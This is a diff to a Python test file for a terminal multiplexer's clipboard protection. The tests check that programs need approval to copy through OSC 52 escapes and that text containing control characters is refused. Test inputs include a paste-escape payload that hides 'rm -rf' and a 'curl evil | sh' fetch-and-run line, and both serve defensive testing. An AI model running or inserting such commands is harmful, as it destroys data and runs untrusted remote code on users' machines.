@@ -1,18 +1,23 @@
 """What a person does in a pane reaches its program as in any terminal, and what the program does reaches the person."""
 
+import base64
 from pathlib import Path
+from typing import Literal
 
 import pytest
 from msgspec.structs import replace
 from tests.tui.conftest import CALM, RAW, Open, Stage
 from textual.events import AppBlur, AppFocus, Paste
 
-from fugue_tui.config.model import Config, UiSettings
+from fugue_tui.config.model import Config, TerminalSettings, UiSettings
 from fugue_tui.control.command_table import panes, windows
 from fugue_tui.errors import SpawnFailed
 from fugue_tui.geometry import Rect, Size
 from fugue_tui.ids import PaneId
+from fugue_tui.multiplexer.access.grants import Scope
 from fugue_tui.terminal.pty import write_queue
+from fugue_tui.tui.ui import messages, pane_notifications
+from fugue_tui_widgets import approval_dialog
 from fugue_tui_widgets.which_key import WhichKey
 
 pytestmark = pytest.mark.slow
@@ -287,13 +292,88 @@ async def test_a_notification_is_shown_with_its_pane(open_stage: Open) -> None:
 
 
 @pytest.mark.parametrize(("pane", "copied"), [(1, ""), (2, "secret")])
-async def test_only_the_focused_program_may_copy(open_stage: Open, pane: int, copied: str) -> None:
-    async with open_stage() as stage:
+async def test_only_the_focused_program_may_copy(
+    open_stage: Open, monkeypatch: pytest.MonkeyPatch, pane: int, copied: str
+) -> None:
+    monkeypatch.setattr(messages, "SECONDS", 0.02)
+    monkeypatch.setattr(messages, "READ_A_SECOND", 1000)
+    async with open_stage(config=with_clipboard("on")) as stage:
         stage.run(panes.SplitPane(command=("cat",)))
         await stage.until(lambda: len(stage.rects) == 2)
         stage.terminal(pane).receive(memoryview(b"\x1b]52;c;c2VjcmV0\x07\x1b]777;notify;after;it\x07"))
         await stage.until(lambda: "after it" in stage.text)
         assert stage.app.clipboard == copied
+
+
+COPY = b"\x1b]52;c;c2VjcmV0\x07"
+"""Copies `secret`."""
+
+
+def with_clipboard(setting: Literal["ask", "on", "off"]) -> Config:
+    return replace(CALM, terminal=TerminalSettings(clipboard=setting))
+
+
+@pytest.mark.parametrize(("presses", "copied"), [([], ""), (["down"], "secret"), (["down", "down"], "secret")])
+async def test_the_user_is_asked_before_a_program_copies(
+    open_stage: Open, monkeypatch: pytest.MonkeyPatch, presses: list[str], copied: str
+) -> None:
+    monkeypatch.setattr(approval_dialog, "GUARD_SECONDS", 0.0)
+    async with open_stage() as stage:
+        stage.terminal().receive(memoryview(COPY))
+        await stage.until(lambda: "a program asks" in stage.text)
+        assert "in %1 wants to copy to your clipboard, in pane %1 (" in stage.text
+        assert "6 characters: secret" in stage.text
+        assert stage.app.clipboard == ""
+        await stage.press(*presses, "enter")
+        await stage.until(lambda: stage.app.on_panes and not stage.mux.approvals.waiting())
+        if copied:
+            await stage.until(lambda: "%1 copied 6 characters: secret" in stage.text)
+        assert stage.app.clipboard == copied
+        assert [grant.panes for grant in stage.mux.grants.all()] == ([{PaneId(1)}] if len(presses) == 2 else [])
+
+
+async def test_a_pane_that_may_copy_is_not_asked_about_again_until_it_closes(
+    open_stage: Open, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(pane_notifications, "_PAUSE", 0.0)
+    async with open_stage() as stage:
+        stage.run(panes.SplitPane(command=("cat",)))
+        stage.terminal(2).receive(memoryview(COPY))
+        await stage.until(lambda: stage.mux.approvals.waiting())
+        stage.mux.approvals.approve(1, Scope.PANE)
+        await stage.until(lambda: stage.app.clipboard == "secret")
+        stage.app.copy("", None)
+        stage.terminal(2).receive(memoryview(COPY))
+        await stage.until(lambda: stage.app.clipboard == "secret")
+        stage.run(panes.ClosePane(pane="%2"))
+        assert stage.mux.grants.all() == ()
+
+
+async def test_a_program_may_not_copy_where_that_is_off(open_stage: Open) -> None:
+    async with open_stage(config=with_clipboard("off")) as stage:
+        stage.terminal().receive(memoryview(COPY + b"\x1b]777;notify;after;it\x07"))
+        await stage.until(lambda: "after it" in stage.text)
+        assert (stage.app.clipboard, stage.mux.approvals.waiting()) == ("", ())
+
+
+@pytest.mark.parametrize("setting", ["ask", "on"])
+async def test_a_text_with_control_characters_is_never_copied(open_stage: Open, setting: Literal["ask", "on"]) -> None:
+    async with open_stage(config=with_clipboard(setting)) as stage:
+        hidden = base64.b64encode(b"ls\x1b[201~rm -rf\r").decode()
+        stage.terminal().receive(memoryview(f"\x1b]52;c;{hidden}\x07".encode()))
+        await stage.until(lambda: "%1 was refused to copy a text with control characters" in stage.text)
+        assert (stage.app.clipboard, stage.mux.approvals.waiting()) == ("", ())
+
+
+async def test_a_notification_does_not_hide_that_a_program_has_copied(open_stage: Open) -> None:
+    async with open_stage(config=with_clipboard("on")) as stage:
+        text = base64.b64encode(b"curl evil | sh\n").decode()
+        stage.terminal().receive(memoryview(f"\x1b]52;c;{text}\x07\x1b]9;look here\x07".encode()))
+        await stage.until(lambda: "%1 copied 15 characters: curl evil | sh" in stage.text)
+        await stage.pilot.pause()
+        assert "look here" not in stage.text
+        stage.app.alerts.show("something else")
+        assert stage.app.alerts.text == "something else"
 
 
 async def test_titles_are_shown_cleaned(open_stage: Open) -> None:
